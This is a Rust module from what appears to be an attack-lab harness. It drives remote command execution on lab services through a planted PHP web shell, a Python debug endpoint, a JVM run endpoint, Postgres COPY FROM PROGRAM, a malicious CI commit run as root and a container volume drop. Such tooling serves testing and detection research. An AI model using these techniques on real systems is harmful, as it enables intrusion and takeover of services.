//! Ways in: services with a hole that runs what it is given.

use std::{fs, time::Duration};

use super::Stage;
use crate::{
    error::{At, Error, Result},
    lab::User,
    load::{APP_PORT, JVM_PORT, PHP_PORT, Postgres, commit},
    network::Site,
    process::{run, wait_until},
};

/// Longer than any act takes.
const LIMIT: Duration = Duration::from_secs(90);

/// A service that can be made to run a shell.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Entry {
    /// Python under the small web service.
    App,
    /// The page that an intruder left, in PHP.
    Php,
    Jvm,
    /// `COPY ... FROM PROGRAM`.
    Postgres,
    /// A commit that the build host checks out and runs, as root.
    Ci,
    /// Inside a container, as its root.
    Container,
}

use Entry::{App, Ci, Container, Jvm, Php};

/// As a user of no rights; as root; with all tools of the host.
pub const USERS: &[Entry] = &[App, Php, Jvm, Entry::Postgres];
pub const ROOTS: &[Entry] = &[Ci, Container];
pub const FULL: &[Entry] = &[App, Php, Jvm, Entry::Postgres, Ci];
pub const ALL: &[Entry] = &[App, Container, Php, Ci, Jvm, Entry::Postgres];

impl Entry {
    pub fn name(self) -> &'static str {
        match self {
            App => "app",
            Php => "nginx",
            Jvm => "jvm",
            Self::Postgres => "postgres",
            Ci => "ci",
            Container => "containers",
        }
    }

    /// Has a shell of the service run a script, to its end.
    pub(super) fn shell(self, stage: &Stage<'_>, script: &str) -> Result<()> {
        let script = format!(": {}; {script}", stage.token());
        match self {
            App => {
                let code =
                    format!("import subprocess\nsubprocess.run(['/bin/sh', '-c', {script:?}])\n");
                python(stage, &code)
            }
            Php => {
                post(stage, PHP_PORT, "shell.php", &["--data-urlencode", &format!("c={script}")])
            }
            Jvm => post(stage, JVM_PORT, "run", &["--data-binary", &script]),
            Self::Postgres => {
                Postgres::sql(stage.lab, "CREATE TABLE IF NOT EXISTS loot (line text)")?;
                let script = script.replace('\'', "''");
                // What the program says, or how it ends, is of no interest.
                let _ = Postgres::sql(stage.lab, &format!("COPY loot FROM PROGRAM '{script}'"));
                Ok(())
            }
            Ci => pushed(stage, &script),
            Container => in_container(stage, &script),
        }
    }
}

/// Runs Python in a thread of the small web service, to its end.
pub(super) fn python(stage: &Stage<'_>, code: &str) -> Result<()> {
    post(stage, APP_PORT, "debug?wait", &["--data-binary", code])
}

/// A request of the attacker.
pub(super) fn post(stage: &Stage<'_>, port: u16, page: &str, more: &[&str]) -> Result<()> {
    let mut curl = stage.lab.command(Site::Attacker, "attacker", &User::ROOT, "/usr/bin/curl")?;
    let seconds = LIMIT.as_secs().to_string();
    curl.args(["-sS", "-o", "/dev/null", "-m", &seconds]).args(more);
    curl.arg(format!("http://{}:{port}/{page}", Site::Service.ipv4()));
    run(curl).map(drop)
}

/// Pushed, built, and taken back.
fn pushed(stage: &Stage<'_>, script: &str) -> Result<()> {
    let path = stage.lab.directory().join("ci/origin/check.sh");
    let done = stage.lab.directory().join("ci/checked");
    // The word must be among the arguments of what runs it.
    let quoted = script.replace('\'', "'\\''");
    let text = format!("sh -c '{quoted}'\ntouch {}\n", done.display());
    fs::write(&path, text).at("write", &path)?;
    commit(stage.lab, "check")?;
    let ran = wait_until(LIMIT, || done.exists());
    let _ = fs::remove_file(&path);
    let _ = fs::remove_file(&done);
    commit(stage.lab, "no check")?;
    if ran { Ok(()) } else { Err(not_run("the build host")) }
}

fn in_container(stage: &Stage<'_>, script: &str) -> Result<()> {
    let volume = stage.lab.directory().join("containers/volume");
    let [new, hole, taken] = ["new", "hole", "taken"].map(|name| volume.join(name));
    fs::write(&new, script).at("write", &new)?;
    fs::rename(&new, &hole).at("rename", &new)?;
    let ran = wait_until(LIMIT, || !hole.exists()) && wait_until(LIMIT, || !taken.exists());
    if ran { Ok(()) } else { Err(not_run("a container")) }
}

fn not_run(what: &str) -> Error {
    Error::NotReady { what: what.to_owned(), seconds: LIMIT.as_secs(), detail: String::new() }
}
